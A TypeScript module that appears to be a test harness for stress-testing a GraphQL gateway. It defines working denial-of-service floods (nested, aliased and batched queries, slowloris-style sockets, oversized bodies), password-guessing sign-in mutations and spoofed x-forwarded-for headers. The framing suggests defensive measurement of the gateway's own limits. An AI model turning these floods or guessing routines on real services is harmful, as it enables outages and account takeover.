import { connect } from "node:net";
import { Agent, request } from "undici";
import WebSocket from "ws";

/** Where it goes and who sends it. */
export interface Target {
  /** Of the gateway's GraphQL. */
  readonly url: string;
  /** An access token of a household of the attacker's own, on the device with this id. */
  readonly token: string;
  readonly deviceId: string;
  readonly email: string;
}

/** One blow of a flood; resolves with what came of it. */
export type Blow = (target: Target, number: number) => Promise<string>;

const agent = new Agent({ connections: 64, pipelining: 1, headersTimeout: 10_000, bodyTimeout: 10_000 });
/** The attacker's one address: the limits of addresses are part of what is measured. */
const ADDRESS = "198.51.100.66";
/** Sockets that the attacker holds open, until it is told to stop. */
const held = new Set<{ destroy(): void }>();
/** As many requests that are refused at once: what the others cost beyond it is what is in them. */
export const COMPARISON = "refused at once (for comparison)";
const LARGE = 400;
const VERY_LARGE = 4_000;

async function post(
  target: Target,
  body: string,
  contentType = "application/json",
  token?: string,
): Promise<string> {
  const response = await request(target.url, {
    method: "POST",
    dispatcher: agent,
    headers: {
      "content-type": contentType,
      "x-forwarded-for": ADDRESS,
      ...(token === undefined ? {} : { authorization: `Bearer ${token}` }),
    },
    body,
  });
  const text = await response.body.text();
  return /"code":"(\w+)"/.exec(text)?.[1] ?? `HTTP ${response.statusCode}`;
}

const ask = (target: Target, query: string, token?: string) =>
  post(target, inJson(query), "application/json", token);

function inJson(query: string): string {
  return JSON.stringify({ query });
}

function many(count: number, of: (index: number) => string): string {
  return Array.from({ length: count }, (_, index) => of(index)).join(" ");
}

/** Asks for what is not there: as little as a request can be. */
async function nowhere({ url }: Target): Promise<string> {
  const options = { dispatcher: agent, headers: { "x-forwarded-for": ADDRESS } };
  const { statusCode, body } = await request(new URL("/nowhere", url), options);
  await body.dump();
  return `HTTP ${statusCode}`;
}

/** Sends the head of a request and a byte of its body now and then. */
function slowly({ url }: Target): Promise<string> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname);
    const head = `POST /graphql HTTP/1.1\r\nhost: ${hostname}\r\ncontent-type: application/json\r\ncontent-length: 5000\r\n\r\n`;
    socket.write(head);
    const dripping = setInterval(() => socket.write(" "), 1_000).unref();
    held.add(socket);
    socket.on("error", () => undefined);
    socket.on("close", () => {
      held.delete(socket);
      clearInterval(dripping);
      resolve("closed");
    });
  });
}

/** Opens a WebSocket and says nothing. */
function abandoned({ url }: Target): Promise<string> {
  return new Promise((resolve) => {
    const socket = new WebSocket(url.replace("http", "ws"), "graphql-transport-ws", {
      headers: { "x-forwarded-for": ADDRESS },
    });
    const handle = { destroy: () => socket.terminate() };
    held.add(handle);
    socket.on("error", () => resolve("refused"));
    socket.on("close", (code) => {
      held.delete(handle);
      resolve(`closed with ${code}`);
    });
  });
}

/** Gives up what is held open, so that the next flood meets a house that has nothing else to do. */
export function letGo(): void {
  for (const socket of [...held]) socket.destroy();
}

/** What is the same each time is written once: it is the house that is to be busy with it. */
const DEEP = inJson(
  `{ channels { edges { node ${"{ now { channel ".repeat(LARGE)} { id } ${"} }".repeat(LARGE)} } } }`,
);
const WIDE = inJson(`{ channels(first: 500) { edges { node { ${many(VERY_LARGE, () => "id title")} } } } }`);
const ALIASED = inJson(`{ ${many(LARGE, (index) => `a${index}: channels(first: 100) { totalCount }`)} }`);
const BATCH = JSON.stringify(Array.from({ length: LARGE }, () => ({ query: "{ __typename }" })));
const LARGE_BODY = inJson(`{ __typename } #${"x".repeat(2_000_000)}`);

/** Everything that is sent, by name; each is a flood of blows. */
export const FLOODS: Readonly<Record<string, Blow>> = {
  [COMPARISON]: nowhere,
  deep: (target) => post(target, DEEP),
  wide: (target) => post(target, WIDE),
  costly: (target) =>
    ask(
      target,
      `{ channels(first: 500) { edges { node { schedule(from: "2026-01-01T00:00:00Z", to: "2026-12-31T00:00:00Z") { title
      channel { schedule(from: "2026-01-01T00:00:00Z", to: "2026-12-31T00:00:00Z") { title } } } } } } }`,
    ),
  aliased: (target) => post(target, ALIASED),
  "different each time": (target, number) =>
    ask(
      target,
      `query Q${number} { channels(first: 10) { edges { node { a${number}: title now { b${number}: title } } } } }`,
    ),
  batched: (target) => post(target, BATCH),
  slow: slowly,
  broken: (target, number) =>
    post(
      target,
      ["{", '{"query":"{ channels { "}', '{"query":42}', "query=%", '{"query":"{ a b c ! }"}'][number % 5] ??
        "",
    ),
  "large bodies": (target) => post(target, LARGE_BODY),
  "sockets opened and abandoned": abandoned,
  "sign-in guessing": (target, number) =>
    ask(
      target,
      `mutation { signIn(email: ${JSON.stringify(target.email)}, password: "guess ${number}") { __typename } }`,
    ),
  "thirty guesses in one": (target, number) =>
    ask(
      target,
      `mutation { ${many(30, (index) => `a${index}: signIn(email: ${JSON.stringify(target.email)}, password: "guess ${number}.${index}") { __typename }`)} }`,
    ),
  "remote commands": (target) =>
    ask(
      target,
      `mutation { sendRemoteCommand(input: { targetDeviceId: "${target.deviceId}", kind: PAUSE }) { __typename } }`,
      target.token,
    ),
};
